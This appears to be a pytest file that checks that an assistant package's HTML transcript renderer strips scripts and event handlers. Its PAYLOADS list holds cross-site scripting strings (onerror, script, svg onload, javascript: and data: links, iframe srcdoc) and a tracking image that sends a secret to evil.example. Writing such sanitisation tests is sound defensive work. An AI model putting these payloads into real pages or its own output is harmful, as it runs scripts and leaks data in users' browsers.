"""The static HTML transcript: what nbconvert and GitHub show of a run, sanitised."""

from __future__ import annotations

import base64
import re

import pytest
from jupyter_helpers import files, load, replay

from ipyassistant.jupyter.transcript import image_mime, render_markdown, transcript_html
from ipyassistant.jupyter.view_state import empty_state

PAYLOADS = [
    "<img src=x onerror=\"alert('img')\">",
    "<script>alert('script')</script>",
    "<svg onload=alert(1)><circle r=1/></svg>",
    '<a href="javascript:alert(1)">click</a>',
    "[markdown link](javascript:alert(1))",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "![tracker](https://evil.example/p.png?secret=1)",
    '<div onmouseover="alert(1)">hover</div>',
]


def tags(html: str) -> list[str]:
    """The tags of an HTML string (escaped text is not a tag)."""
    return re.findall(r"<[a-zA-Z][^>]*>", html)


def assert_inert(html: str) -> None:
    for tag in tags(html):
        assert not re.search(r"\son\w+\s*=", tag, re.I), tag
        assert not re.search(r"(href|src)\s*=\s*\"?\s*(javascript|data:text)", tag, re.I), tag
        assert not tag.lower().startswith(("<script", "<iframe", "<svg")), tag
        if tag.lower().startswith("<img"):
            assert 'src="data:image/' in tag, "only the run's own images are loaded"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_model_markdown_is_sanitised(payload: str) -> None:
    html = render_markdown(f"Here you go:\n\n{payload}\n\nbye")
    assert_inert(html)
    assert "bye" in html


def test_a_whole_transcript_is_sanitised() -> None:
    message = {
        "kind": "message",
        "id": "m",
        "run_id": "r",
        "role": "assistant",
        "status": "completed",
        "blocks": [{"type": "text", "text": p} for p in PAYLOADS]
        + [{"type": "image_url", "url": "javascript:alert(1)"}],
    }
    call = {
        "kind": "tool_call",
        "id": "c",
        "run_id": "r",
        "step_id": "s",
        "index": 0,
        "name": PAYLOADS[0],
        "arguments": PAYLOADS[1],
        "output": PAYLOADS[2],
        "status": "completed",
        "error": {"code": PAYLOADS[3], "message": PAYLOADS[6]},
    }
    html = transcript_html({**empty_state(), "items": [message, call]})
    assert_inert(html)
    assert "&lt;img src=x onerror=" in html  # shown as text


def test_markdown_still_renders() -> None:
    html = render_markdown("**bold** [docs](https://example.org)\n\n```python\nx = 1\n```")
    assert "<strong>bold</strong>" in html
    assert '<a href="https://example.org">docs</a>' in html
    # The code is coloured now (Pygments spans): its text is unchanged.
    code = html.split('<code class="language-python">')[1].split("</code>")[0]
    assert re.sub(r"<[^>]+>", "", code) == "x = 1\n"


def test_a_text_run() -> None:
    html = transcript_html(replay(load("text"))[0])
    assert "echo: Hello there, <strong>assistant</strong>!" in html
    user, _ = html.split('class="ipa-msg ipa-assistant"')
    assert "Hello there, <strong>assistant</strong>!" in user.split('class="ipa-msg ipa-user"')[1]
    assert "run completed" in html
    assert "tokens" in html


def test_a_tool_round_trip() -> None:
    html = transcript_html(replay(load("tool_round_trip"))[0])
    assert "<code>get_weather</code>" in html
    assert "{&quot;city&quot;: &quot;Paris&quot;}" in html
    assert "sunny, 21 °C" in html
    assert "error: unknown timezone &#x27;Mars/Olympus&#x27;" in html


def test_the_code_interpreter_embeds_its_images() -> None:
    recording = load("code_interpreter")
    state = replay(recording)[0]
    ((file_id, data),) = files(recording).items()
    without = transcript_html(state)
    assert without.count(f"[image {file_id}]") == 2
    html = transcript_html(state, {file_id: data})
    encoded = base64.b64encode(data).decode()
    assert html.count(f'src="data:image/png;base64,{encoded}"') == 2
    assert "plotted 3 points" in html
    assert "ax.plot([1, 3, 2])" in html


def test_a_failed_run_shows_its_error() -> None:
    html = transcript_html(replay(load("failure"))[0])
    assert "run failed" in html
    assert "server_error: the model fell over" in html


def test_image_types_are_told_from_their_bytes() -> None:
    assert image_mime(b"\x89PNG\r\n\x1a\n") == "image/png"
    assert image_mime(b"\xff\xd8\xff\xe0") == "image/jpeg"
    assert image_mime(b"GIF89a") == "image/gif"
    assert image_mime(b"RIFF\x00\x00\x00\x00WEBPVP8") == "image/webp"
    assert image_mime(b'<?xml version="1.0"?>\n<svg xmlns="...">') == "image/svg+xml"
